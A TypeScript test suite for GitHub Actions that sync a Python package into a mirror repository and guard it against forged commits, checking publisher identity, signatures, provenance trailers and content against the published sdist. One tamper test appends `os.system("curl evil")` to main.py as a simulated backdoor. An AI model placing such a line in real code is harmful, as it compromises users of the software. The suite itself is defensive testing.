/**
 * mirror-sync and mirror-guard against the sandbox GitHub (every request
 * checked against GitHub's OpenAPI description) and the sandbox index holding
 * real sdists of the sample monorepo built by the suite's build pipeline.
 * Most cases call run() in-process (sync, guard); the end-to-end ones run the
 * bundles (dist/mirror-sync, dist/mirror-guard) on Node 24 as the runner does
 * (syncBundle, guardBundle): a sync and its guard, an empty mirror, the
 * publishers input, a pull request.
 *
 * The mirror starts as its admin creates it: one commit holding only
 * .github/workflows/mirror-guard.yml (the git data API cannot write into an
 * empty repository). Push events are built from the sandbox's commits as
 * GitHub builds them (before, after, commits, sender).
 */
import { execFileSync } from 'node:child_process';
import { appendFileSync, cpSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Octokit } from '@octokit/core';
import { restEndpointMethods } from '@octokit/plugin-rest-endpoint-methods';
import { startGitHub, type GitHubSandbox } from '../../sandbox/github/index.js';
import { botIdentity, userId } from '../../sandbox/github/state.js';
import { startPyPI, type PyPISandbox } from '../../sandbox/pypi/index.js';
import { allText, repoRoot, runAction, type RunResult } from '../../sandbox/runner.js';
import { compareTrees, isIdentical } from '../../packages/mirror/compare.js';
import { readFolderFiles } from '../../packages/mirror/files.js';
import { parseTrailers } from '../../packages/mirror/trailers.js';
import { buildSample, PACKAGE, type SampleBuild } from '../../sandbox/samples/monorepo-build.js';
import { parsePublishers } from '../../packages/mirror/guard-modes.js';
import { run as runGuard } from '../../packages/mirror/mirror-guard.js';
import { run as runSync } from '../../packages/mirror/mirror-sync.js';
import { inProcess, shownText, type InProcessResult } from '../toolkit/in-process.js';
import { replaceOnce } from '../text-edit.js';

const MIRROR = 'Molecule-AI/molecule-ai-workspace-runtime';
const SOURCE = 'Molecule-AI/molecule-core';
const SOURCE_SHA = '3f2c1a9b8e7d6c5b4a39281706f5e4d3c2b1a098';
const PUBLISHER = 'ghs_mirrorPublisherToken9c41d07e2b';
const GUARD = 'ghs_mirrorGuardJobToken5a17e3f9c8';
const MALLORY = 'ghp_malloryPersonalToken3e8d91c6f0';
const TOKENS = [PUBLISHER, GUARD, MALLORY, 'github_pat_releaseUserToken7d2e9a41'];
const GUARD_WORKFLOW = readFileSync(
  path.join(repoRoot, 'examples', 'workflows', 'mirror-guard.yml'),
  'utf8',
);
/** The publishing GitHub App's bot: its installation token writes the mirror. */
const APP_BOT = 'molecule-runtime-publisher[bot]';
const BOT = botIdentity(APP_BOT, userId(APP_BOT));
/** A fine-grained personal token of a user, as MIRROR_TOKEN was. */
const USER_TOKEN = 'github_pat_releaseUserToken7d2e9a41';
const MALLORY_ID = { name: 'Mallory', email: '19283746+mallory@users.noreply.github.com' };

let gh: GitHubSandbox;
let pypi: PyPISandbox;
let v7: SampleBuild;
let v8: SampleBuild;
let v9: SampleBuild;
let scratch: string;
let initial: string;

beforeAll(async () => {
  [v7, v8, v9] = [
    await buildSample('0.1.7'),
    await buildSample('0.1.8'),
    await buildSample('0.1.9'),
  ];
  pypi = await startPyPI();
  // 0.1.7 and 0.1.8 are published; 0.1.9 never was.
  for (const b of [v7, v8]) pypi.seed(PACKAGE, [{ filename: b.sdistFileName, content: b.sdist }]);
  scratch = mkdtempSync(path.join(tmpdir(), 'mirror-e2e-'));
});
afterAll(async () => {
  await pypi.close();
  for (const b of [v7, v8, v9]) b.cleanup();
  rmSync(scratch, { recursive: true, force: true });
});

beforeEach(async () => {
  gh = await startGitHub({
    tokens: {
      [PUBLISHER]: {
        login: APP_BOT,
        type: 'Bot',
        repos: [MIRROR, 'Molecule-AI/empty-mirror'],
      },
      [GUARD]: {
        login: 'github-actions[bot]',
        type: 'Bot',
        repos: [MIRROR],
        permissions: { contents: 'read', pull_requests: 'read', metadata: 'read' },
      },
      [MALLORY]: { login: 'mallory', repos: [MIRROR] },
      [USER_TOKEN]: { login: 'release-user', fineGrained: true, repos: [MIRROR] },
    },
  });
  gh.state.addRepo(MIRROR);
  initial = gh.state.addCommit(MIRROR, {
    message: 'Add the mirror guard',
    tree: { '.github/workflows/mirror-guard.yml': GUARD_WORKFLOW },
    author: { name: 'Repo Admin', email: '5551234+admin@users.noreply.github.com' },
  });
});
afterEach(async () => {
  gh.assertNoViolations();
  await gh.close();
});

type Result = RunResult | InProcessResult;

function expectNoLeak(r: Result): void {
  const visible = 'io' in r ? shownText(r) : allText(r).replace(/^::add-mask::.*$/gm, '');
  for (const t of TOKENS) expect(visible).not.toContain(t);
}

/**
 * mirror-sync's run() in-process, with the inputs the action.yml defaults and
 * the run context map to (issue #16: the bulk of the cases run here; the
 * bundle runs in syncBundle, for the end-to-end ones).
 */
async function sync(
  build: { packageDir: string; version: string },
  runId = '4242',
  token = PUBLISHER,
): Promise<InProcessResult> {
  const r = await inProcess((io) =>
    runSync(
      {
        token,
        repository: MIRROR,
        branch: 'main',
        version: build.version,
        packageDir: build.packageDir,
        apiUrl: gh.url,
        serverUrl: 'https://github.com',
        sourceRepository: SOURCE,
        sourceCommit: SOURCE_SHA,
        runUrl: `https://github.com/${SOURCE}/actions/runs/${runId}`,
      },
      io,
    ),
  );
  expectNoLeak(r);
  return r;
}

/** mirror-guard's run() in-process, in event mode, as the bundle maps a push. */
async function guard(
  event: Record<string, unknown>,
  eventName = 'push',
  publishers: string = APP_BOT,
  indexUrl: string = pypi.url,
): Promise<InProcessResult> {
  const r = await inProcess((io) =>
    runGuard(
      {
        mode: 'event',
        mirror: MIRROR,
        sourceRepository: SOURCE,
        packageName: PACKAGE,
        apiUrl: gh.url,
        serverUrl: 'https://github.com',
        token: GUARD,
        publishers: parsePublishers(publishers),
        indexUrl,
        eventName,
        event,
        sha: String(event.after ?? head()),
      },
      io,
    ),
  );
  expectNoLeak(r);
  return r;
}

async function syncBundle(
  build: { packageDir: string; version: string },
  runId = '4242',
  token = PUBLISHER,
): Promise<RunResult> {
  const r = await runAction('mirror-sync', {
    inputs: { 'package-dir': build.packageDir, version: build.version, token },
    env: {
      GITHUB_API_URL: gh.url,
      GITHUB_REPOSITORY: SOURCE,
      GITHUB_SHA: SOURCE_SHA,
      GITHUB_RUN_ID: runId,
    },
  });
  expectNoLeak(r);
  expect(r.masked).toContain(token);
  return r;
}

const head = () => gh.state.getRef(MIRROR, 'refs/heads/main') as string;
const commitCount = () => gh.state.repo(MIRROR)?.objects.all('commit').length ?? 0;

/** The push event GitHub sends for moving main from `before` to `after`. */
function pushEvent(before: string, after: string, sender: string) {
  const commits: Array<Record<string, unknown>> = [];
  for (let sha = after; sha && sha !== before;) {
    const c = gh.state.getCommit(MIRROR, sha);
    if (!c) break;
    commits.unshift({
      id: c.sha,
      message: c.message,
      author: { name: c.author.name, email: c.author.email },
      committer: { name: c.committer.name, email: c.committer.email },
      distinct: true,
    });
    sha = c.parents[0] as string;
  }
  return {
    ref: 'refs/heads/main',
    before,
    after,
    created: false,
    deleted: false,
    forced: false,
    commits,
    head_commit: commits.at(-1) ?? null,
    pusher: { name: sender, email: `${sender}@users.noreply.github.com` },
    sender: { login: sender, type: sender.endsWith('[bot]') ? 'Bot' : 'User' },
    repository: { full_name: MIRROR },
  };
}

async function guardBundle(
  event: Record<string, unknown>,
  eventName = 'push',
  publishers: string = APP_BOT,
  indexUrl: string = pypi.url,
): Promise<RunResult> {
  const r = await runAction('mirror-guard', {
    inputs: { token: GUARD, 'index-url': indexUrl, publishers },
    env: {
      GITHUB_API_URL: gh.url,
      GITHUB_REPOSITORY: MIRROR,
      GITHUB_EVENT_NAME: eventName,
      GITHUB_SHA: String(event.after ?? head()),
      GITHUB_REF: 'refs/heads/main',
    },
    event,
  });
  expectNoLeak(r);
  return r;
}

/** An index that refuses connections: a loopback port that was just closed. */
async function closedPort(): Promise<number> {
  const down = createServer();
  await new Promise<void>((r) => down.listen(0, '127.0.0.1', r));
  const port = (down.address() as AddressInfo).port;
  await new Promise<void>((r) => down.close(() => r()));
  return port;
}

const errors = (r: Result) => r.annotations.filter((a) => a.level === 'error');
const failedRules = (r: Result) =>
  errors(r)
    .map((a) => /^Mirror guard rule (\d)/.exec(a.title ?? '')?.[1])
    .filter(Boolean)
    .map(Number);

function octokit(token: string) {
  return new (Octokit.plugin(restEndpointMethods))({
    auth: token,
    baseUrl: gh.url,
    request: { retries: 0 },
  });
}

describe('mirror-sync', () => {
  test('writes the sdist tree as one verified commit with provenance trailers, tags it, and the guard passes it', async () => {
    const r = await syncBundle(v7);
    expect(r.exitCode).toBe(0);
    expect(r.outputs.created).toBe('true');
    const sha = r.outputs.commit as string;
    expect(head()).toBe(sha);
    const c = gh.state.getCommit(MIRROR, sha);
    expect(c?.parents).toEqual([initial]);
    expect(c?.verified).toBe(true);
    expect(c?.committer).toMatchObject({ name: 'GitHub', email: 'noreply@github.com' });
    expect(c?.author).toMatchObject(BOT);
    expect(parseTrailers(c?.message ?? '')).toEqual([
      { key: 'Runtime-Version', value: '0.1.7' },
      { key: 'Source-Repository', value: SOURCE },
      { key: 'Source-Commit', value: SOURCE_SHA },
      { key: 'Published-By', value: `https://github.com/${SOURCE}/actions/runs/4242` },
    ]);
    // The content: the package tree exactly, plus the mirror's own workflow.
    const files = gh.state.readTree(MIRROR, sha);
    const expected = await readFolderFiles(v7.packageDir);
    expect(Object.keys(files).sort()).toEqual(
      [...expected.map((f) => f.path), '.github/workflows/mirror-guard.yml'].sort(),
    );
    const tag = gh.state.tagsOf(MIRROR).find((t) => t.name === 'v0.1.7');
    expect(tag?.commit).toBe(sha);
    expect(tag?.annotated?.message).toBe('Runtime 0.1.7\n');
    expect(r.summary).toMatch(/Mirror sync: Molecule-AI\/molecule-ai-workspace-runtime v0\.1\.7/);
    expect(r.summary).toContain('Runtime-Version: 0.1.7');

    const g = await guardBundle(pushEvent(initial, sha, APP_BOT));
    expect(errors(g)).toEqual([]);
    expect(g.exitCode).toBe(0);
    expect(JSON.parse(g.outputs.verified as string)).toEqual([
      { sha, version: '0.1.7', passed: true, failed_rules: [] },
    ]);
    expect(g.summary).toMatch(/✅ Mirror guard: 1 commit verified/);
    expect(g.summary).toContain(`= ${v7.sdistFileName}`);
    expect(g.summary).toContain('made through the API; signed by GitHub and verified');
    // The guard downloaded the published sdist from the index.
    expect(pypi.requests.some((q) => q.url.endsWith(`/${v7.sdistFileName}`))).toBe(true);
  });

  test('running it twice for the same version makes no second commit; a new version builds on it; an old re-run is a no-op', async () => {
    const first = await sync(v7);
    const sha7 = first.outputs.commit as string;
    const commits = commitCount();
    const writesBefore = gh.requests.filter((q) => q.method !== 'GET').length;

    const again = await sync(v7, '4243');
    expect(again.exitCode).toBe(0);
    expect(again.outputs).toMatchObject({ created: 'false', commit: sha7 });
    expect(commitCount()).toBe(commits);
    expect(gh.requests.filter((q) => q.method !== 'GET').length).toBe(writesBefore);
    expect(again.summary).toContain('already mirrored');

    const next = await sync(v8, '4300');
    expect(next.outputs.created).toBe('true');
    const sha8 = next.outputs.commit as string;
    expect(gh.state.getCommit(MIRROR, sha8)?.parents).toEqual([sha7]);
    expect(head()).toBe(sha8);
    // Unchanged files were not sent again: only what 0.1.8 changed went up.
    const tree = gh.requests
      .filter((q) => q.method === 'POST' && q.path.endsWith('/git/trees'))
      .at(-1);
    const entries = (tree?.body as { tree: Array<{ content?: string; sha?: string }> }).tree;
    expect(entries.filter((e) => e.content !== undefined).length).toBeLessThan(entries.length / 2);
    expect(entries.filter((e) => e.sha !== undefined).length).toBeGreaterThan(entries.length / 2);

    const g = await guard(pushEvent(sha7, sha8, APP_BOT));
    expect(g.exitCode).toBe(0);
    expect(JSON.parse(g.outputs.verified as string)).toEqual([
      { sha: sha8, version: '0.1.8', passed: true, failed_rules: [] },
    ]);

    const late = await sync(v7, '4244');
    expect(late.outputs).toMatchObject({ created: 'false', commit: sha7 });
    expect(head()).toBe(sha8);
  });

  test('an empty mirror is refused with what to do; nothing is written', async () => {
    gh.state.addRepo('Molecule-AI/empty-mirror');
    const r = await runAction('mirror-sync', {
      inputs: {
        'package-dir': v7.packageDir,
        version: '0.1.7',
        token: PUBLISHER,
        repository: 'Molecule-AI/empty-mirror',
      },
      env: { GITHUB_API_URL: gh.url, GITHUB_REPOSITORY: SOURCE, GITHUB_SHA: SOURCE_SHA },
    });
    expect(r.exitCode).toBe(1);
    expect(errors(r)[0]).toMatchObject({
      title: 'Mirror not initialised',
      message: expect.stringMatching(/is empty.*mirror-guard\.yml/),
    });
    expect(gh.requests.filter((q) => q.method !== 'GET')).toEqual([]);
  });

  test('a package-dir that is not the given version is refused before any request', async () => {
    const r = await sync({ packageDir: v8.packageDir, version: '0.1.7' });
    expect(r.exitCode).toBe(1);
    expect(errors(r)[0]?.message).toMatch(
      /PKG-INFO is version 0\.1\.8, but the version input is 0\.1\.7/,
    );
    expect(gh.requests).toEqual([]);
  });
});

describe('the identity mirror-sync writes as is the one the guard checks (issue #17)', () => {
  test('an App installation token: the commit is verified as <app-slug>[bot], the identity output names it, and the guard with that publisher passes', async () => {
    const r = await sync(v7);
    expect(r.exitCode).toBe(0);
    expect(r.outputs.identity).toBe(APP_BOT);
    expect(r.summary).toContain(`\`${APP_BOT}\``);
    const g = await guard(pushEvent(initial, r.outputs.commit as string, APP_BOT), 'push', APP_BOT);
    expect(errors(g)).toEqual([]);
    expect(g.exitCode).toBe(0);
  });

  test("a user's token writes as that user: the identity output says so, and a guard set for the App refuses the push (rule 1)", async () => {
    const r = await sync(v7, '4242', USER_TOKEN);
    expect(r.exitCode).toBe(0);
    expect(r.outputs.identity).toBe('release-user');
    const g = await guard(pushEvent(initial, r.outputs.commit as string, 'release-user'));
    expect(g.exitCode).toBe(1);
    expect(failedRules(g)).toEqual([1]);
    expect(errors(g)[0]?.message).toMatch(/pushed by release-user, who is not a publisher/);
  });

  test.each([
    ['', /'publishers' is empty/],
    ['[bot]', /'publishers' holds '\[bot\]', which is not a GitHub login/],
  ])("publishers '%s' is refused, naming the input, before any request", async (value, message) => {
    const sha = (await sync(v7)).outputs.commit as string;
    const before = gh.requests.length;
    const g = await guardBundle(pushEvent(initial, sha, APP_BOT), 'push', value);
    expect(g.exitCode).toBe(1);
    const [e] = errors(g);
    expect(e?.message).toMatch(message);
    expect(allText(g)).toMatch(/input 'publishers'|publishers/);
    expect(e?.message + (g.stdout ?? '')).toContain('MIRROR_APP_SLUG');
    expect(gh.requests.length).toBe(before);
  });
});

describe('mirror-guard refuses each forgery with the right reason', () => {
  test('a human push with copied trailers and the right content: rule 1 only', async () => {
    const good = (await sync(v7)).outputs.commit as string;
    const copied = gh.state.getCommit(MIRROR, good)?.message as string;
    const forged = gh.state.addCommit(MIRROR, {
      message: replaceOnce(copied, 'Runtime 0.1.7', 'Runtime 0.1.7 (hotfix)'),
      author: MALLORY_ID,
    });
    expect(gh.state.getCommit(MIRROR, forged)?.tree).toBe(gh.state.getCommit(MIRROR, good)?.tree);
    const r = await guard(pushEvent(good, forged, 'mallory'));
    expect(r.exitCode).toBe(1);
    expect(failedRules(r)).toEqual([1]);
    const [e] = errors(r);
    expect(e?.message).toMatch(
      /fails rule 1 \(publisher identity\): pushed by mallory, who is not a publisher; author Mallory <19283746\+mallory@users\.noreply\.github\.com> \(mallory\) is not a publisher; committer .* is not a publisher/,
    );
    expect(JSON.parse(r.outputs.verified as string)).toEqual([
      { sha: forged, version: '0.1.7', passed: false, failed_rules: [1] },
    ]);
    expect(r.summary).toMatch(/❌ Mirror guard: 1 of 1 commit refused/);
  });

  test('a human push spoofing the bot and GitHub as committer: rules 1 and 2 (no verified signature)', async () => {
    const good = (await sync(v7)).outputs.commit as string;
    const forged = gh.state.addCommit(MIRROR, {
      message: gh.state.getCommit(MIRROR, good)?.message as string,
      author: BOT,
      committer: { name: 'GitHub', email: 'noreply@github.com' },
    });
    const r = await guard(pushEvent(good, forged, 'mallory'));
    expect(r.exitCode).toBe(1);
    expect(failedRules(r)).toEqual([1, 2]);
    const text = errors(r)
      .map((a) => a.message)
      .join('\n');
    expect(text).toMatch(
      /pushed by mallory, who is not a publisher; committer GitHub <noreply@github\.com> \(web-flow\) claims to be GitHub, but the commit carries no verified GitHub signature/,
    );
    expect(text).toMatch(
      /rule 2 \(signature\): committed as GitHub \(web-flow\).*not verified \(unsigned\)/,
    );
  });

  test('a bot commit whose tree differs from the published sdist by one file: rule 4 names the file', async () => {
    const tampered = path.join(scratch, 'tampered');
    cpSync(v7.packageDir, tampered, { recursive: true });
    appendFileSync(
      path.join(tampered, 'molecule_runtime', 'main.py'),
      '\nimport os; os.system("curl evil")\n',
    );
    const r0 = await sync({ packageDir: tampered, version: '0.1.7' });
    expect(r0.exitCode).toBe(0);
    const sha = r0.outputs.commit as string;
    const r = await guard(pushEvent(initial, sha, APP_BOT));
    expect(r.exitCode).toBe(1);
    expect(failedRules(r)).toEqual([4]);
    const [e] = errors(r);
    expect(e?.message).toMatch(
      new RegExp(
        `rule 4 \\(content equals the published sdist\\): 1 path differs from ${v7.sdistFileName.replace(/\./g, '\\.')}: changed molecule_runtime/main\\.py \\(content blob [0-9a-f]{12}… → blob [0-9a-f]{12}…\\)`,
      ),
    );
    expect(r.summary).toContain('changed  molecule_runtime/main.py');
    rmSync(tampered, { recursive: true, force: true });
  });

  test('a bot API commit without trailers: rule 3, and rule 4 is not checked', async () => {
    const good = (await sync(v7)).outputs.commit as string;
    const api = octokit(PUBLISHER);
    const [owner, repo] = MIRROR.split('/') as [string, string];
    const { data: made } = await api.rest.git.createCommit({
      owner,
      repo,
      message: 'Runtime 0.1.7\n\nRe-sync by hand.\n',
      tree: gh.state.getCommit(MIRROR, good)?.tree as string,
      parents: [good],
    });
    await api.rest.git.updateRef({ owner, repo, ref: 'heads/main', sha: made.sha });
    const r = await guard(pushEvent(good, made.sha, APP_BOT));
    expect(r.exitCode).toBe(1);
    expect(failedRules(r)).toEqual([3]);
    expect(errors(r)[0]?.message).toMatch(
      /rule 3 \(provenance trailers\): no Runtime-Version trailer; no Source-Repository trailer; no Source-Commit trailer; no Published-By trailer/,
    );
    expect(r.stdout).toMatch(/rule 4 \(content equals the published sdist\): not checked/);
  });

  test('a non-publisher push while the index is down: every rule that needs no index gives its verdict, rule 4 is not checked, the step fails', async () => {
    const good = (await sync(v7)).outputs.commit as string;
    const forged = gh.state.addCommit(MIRROR, {
      message: gh.state.getCommit(MIRROR, good)?.message as string,
      author: { name: 'Mallory', email: '19283746+mallory@users.noreply.github.com' },
    });
    const port = await closedPort();
    const r = await guard(
      pushEvent(good, forged, 'mallory'),
      'push',
      APP_BOT,
      `http://127.0.0.1:${port}`,
    );
    expect(r.exitCode).toBe(1);
    expect(failedRules(r)).toEqual([1, 4]);
    const [identity, content] = errors(r);
    expect(identity?.message).toMatch(
      /fails rule 1 \(publisher identity\): pushed by mallory, who is not a publisher; author Mallory .* is not a publisher/,
    );
    expect(content?.title).toBe('Mirror guard rule 4 not checked: Index unreachable');
    expect(content?.message).toMatch(
      /rule 4 \(content equals the published sdist\): not checked: index unreachable: Gave up on .* connection refused/,
    );
    // pypi-publish's advice about uploads has no place here.
    expect(shownText(r)).not.toContain('idempotent');
    expect(r.stdout).toMatch(/::error::1 of 1 commits on .* fail the mirror's rules/);
    expect(JSON.parse(r.outputs.verified as string)).toEqual([
      { sha: forged, version: '0.1.7', passed: false, failed_rules: [1] },
    ]);
    expect(r.summary).toMatch(/❌ Mirror guard: 1 of 1 commit refused/);
  });

  test('a publisher push while the index is down is not passed: rule 4 not checked fails it, and says to re-run', async () => {
    const r0 = await sync(v8);
    const sha = r0.outputs.commit as string;
    const port = await closedPort();
    const r = await guard(
      pushEvent(initial, sha, APP_BOT),
      'push',
      APP_BOT,
      `http://127.0.0.1:${port}`,
    );
    expect(r.exitCode).toBe(1);
    expect(failedRules(r)).toEqual([4]);
    expect(r.stdout).toMatch(
      /could not be verified: the rules that could be checked pass, but the content rule could not be\. Re-run this check once the index answers\./,
    );
  });

  test('a version that is not on the index: rule 4 says so', async () => {
    const r0 = await sync(v9);
    expect(r0.exitCode).toBe(0);
    const sha = r0.outputs.commit as string;
    const r = await guard(pushEvent(initial, sha, APP_BOT));
    expect(r.exitCode).toBe(1);
    expect(failedRules(r)).toEqual([4]);
    expect(errors(r)[0]?.message).toMatch(
      /rule 4 \(content equals the published sdist\): molecule-ai-workspace-runtime 0\.1\.9 is not on the index \(GET http:\/\/127\.0\.0\.1:\d+\/pypi\/molecule-ai-workspace-runtime\/0\.1\.9\/json answered 404\)/,
    );
  });

  test("a commit that changes the mirror's own .github: rule 4, even from the bot", async () => {
    const good = (await sync(v7)).outputs.commit as string;
    const forged = gh.state.addCommit(MIRROR, {
      message: gh.state.getCommit(MIRROR, good)?.message as string,
      changes: { '.github/workflows/mirror-guard.yml': 'on: workflow_dispatch\n' },
      author: BOT,
    });
    const r = await guard(pushEvent(good, forged, APP_BOT));
    expect(r.exitCode).toBe(1);
    expect(failedRules(r)).toContain(4);
    expect(errors(r).find((a) => a.title?.includes('rule 4'))?.message).toMatch(
      /\.github\/ \(the mirror's own workflows\) differs from the parent/,
    );
  });

  test('outside a push (workflow_dispatch) the commit the run is on is checked, without a pusher', async () => {
    const sha = (await sync(v7)).outputs.commit as string;
    const r = await guard({ after: sha, inputs: {} }, 'workflow_dispatch');
    expect(r.exitCode).toBe(0);
    expect(JSON.parse(r.outputs.verified as string)).toEqual([
      { sha, version: '0.1.7', passed: true, failed_rules: [] },
    ]);
    expect(r.stdout).toContain(
      `rule 1 (publisher identity): ok: authored by ${APP_BOT}, committed by GitHub (web-flow)`,
    );
  });

  test('a pull request: refused at once with where to go instead; no request is made', async () => {
    const r = await guardBundle(
      {
        action: 'opened',
        number: 17,
        pull_request: { number: 17, title: 'Fix retry in main.py', user: { login: 'helpful-dev' } },
      },
      'pull_request',
    );
    expect(r.exitCode).toBe(1);
    const [e] = errors(r);
    expect(e?.title).toBe('Generated mirror: pull requests are not merged');
    expect(e?.message).toMatch(
      /^Pull request #17 cannot be merged: Molecule-AI\/molecule-ai-workspace-runtime is a generated mirror of the molecule-ai-workspace-runtime package, written only by the publish pipeline of Molecule-AI\/molecule-core\. Make the change in workspace\/ of Molecule-AI\/molecule-core \(https:\/\/github\.com\/Molecule-AI\/molecule-core\/tree\/HEAD\/workspace\) instead/,
    );
    expect(e?.message).toContain(
      'See https://github.com/Molecule-AI/molecule-core/blob/main/docs/workspace-runtime-package.md.',
    );
    expect(r.summary).toContain('This repository is a generated mirror');
    expect(r.summary).toContain('there is no way to opt out');
    expect(gh.requests).toEqual([]);
    expect(pypi.requests.filter((q) => q.at >= Date.now() - r.durationMs)).toEqual([]);
  });
});

describe('the mirror as real git sees it', () => {
  test('the synced commit rebuilt object by object in a bare repository has the same ids, clones and fscks clean', async () => {
    const sha = (await sync(v7)).outputs.commit as string;
    const bare = path.join(scratch, 'mirror.git');
    const git = (cwd: string, args: string[], input?: string | Buffer) =>
      execFileSync('git', args, {
        cwd,
        input,
        env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' },
      })
        .toString('utf8')
        .trim();
    execFileSync('git', ['init', '-q', '--bare', bare]);
    const api = octokit(GUARD);
    const [owner, repo] = MIRROR.split('/') as [string, string];
    // Every blob and tree as the API serves them, written with git plumbing.
    const writeTree = async (treeSha: string): Promise<string> => {
      const { data } = await api.rest.git.getTree({ owner, repo, tree_sha: treeSha });
      const lines: string[] = [];
      for (const e of data.tree) {
        if (e.type === 'tree') {
          lines.push(`040000 tree ${await writeTree(e.sha as string)}\t${e.path}`);
        } else {
          const { data: blob } = await api.rest.git.getBlob({
            owner,
            repo,
            file_sha: e.sha as string,
          });
          const id = git(
            bare,
            ['hash-object', '-w', '--stdin'],
            Buffer.from(blob.content, 'base64'),
          );
          expect(id).toBe(e.sha);
          lines.push(`${e.mode} blob ${id}\t${e.path}`);
        }
      }
      return git(bare, ['mktree'], lines.join('\n') + '\n');
    };
    const commit = (await api.rest.git.getCommit({ owner, repo, commit_sha: sha })).data;
    expect(await writeTree(commit.tree.sha)).toBe(commit.tree.sha);
    // The parent (the admin's commit) and the signed commit itself, from the
    // payload and signature GitHub reports: git must hash them to the same ids.
    const parent = (await api.rest.git.getCommit({ owner, repo, commit_sha: initial })).data;
    await writeTree(parent.tree.sha);
    const raw = (c: typeof commit, signed = true) => {
      const date = (iso: string) => `${Math.floor(Date.parse(iso) / 1000)} +0000`;
      const head = [
        `tree ${c.tree.sha}`,
        ...c.parents.map((p) => `parent ${p.sha}`),
        `author ${c.author.name} <${c.author.email}> ${date(c.author.date)}`,
        `committer ${c.committer.name} <${c.committer.email}> ${date(c.committer.date)}`,
      ];
      const sig = signed ? c.verification?.signature : undefined;
      if (sig) head.push(`gpgsig ${sig.replace(/\n$/, '').split('\n').join('\n ')}`);
      return `${head.join('\n')}\n\n${c.message}`;
    };
    expect(git(bare, ['hash-object', '-t', 'commit', '-w', '--stdin'], raw(parent))).toBe(initial);
    expect(git(bare, ['hash-object', '-t', 'commit', '-w', '--stdin'], raw(commit))).toBe(sha);
    expect(commit.verification?.payload).toBe(raw(commit, false));
    git(bare, ['update-ref', 'refs/heads/main', sha]);
    git(bare, ['symbolic-ref', 'HEAD', 'refs/heads/main']);
    git(bare, ['fsck', '--strict', '--no-dangling']);

    const clone = path.join(scratch, 'clone');
    execFileSync('git', ['clone', '-q', bare, clone]);
    expect(git(clone, ['log', '-1', '--format=%(trailers:key=Runtime-Version,valueonly)'])).toBe(
      '0.1.7',
    );
    const cloned = (await readFolderFiles(clone).catch(() => [])).length;
    expect(cloned).toBe(0); // a checkout has .git, which readFolderFiles refuses…
    rmSync(path.join(clone, '.git'), { recursive: true, force: true });
    const files = (await readFolderFiles(clone)).filter((f) => !f.path.startsWith('.github/'));
    // …without it, the clone is the package tree, modes included.
    expect(isIdentical(compareTrees(await readFolderFiles(v7.packageDir), files))).toBe(true);
    rmSync(bare, { recursive: true, force: true });
    rmSync(clone, { recursive: true, force: true });
  });
});
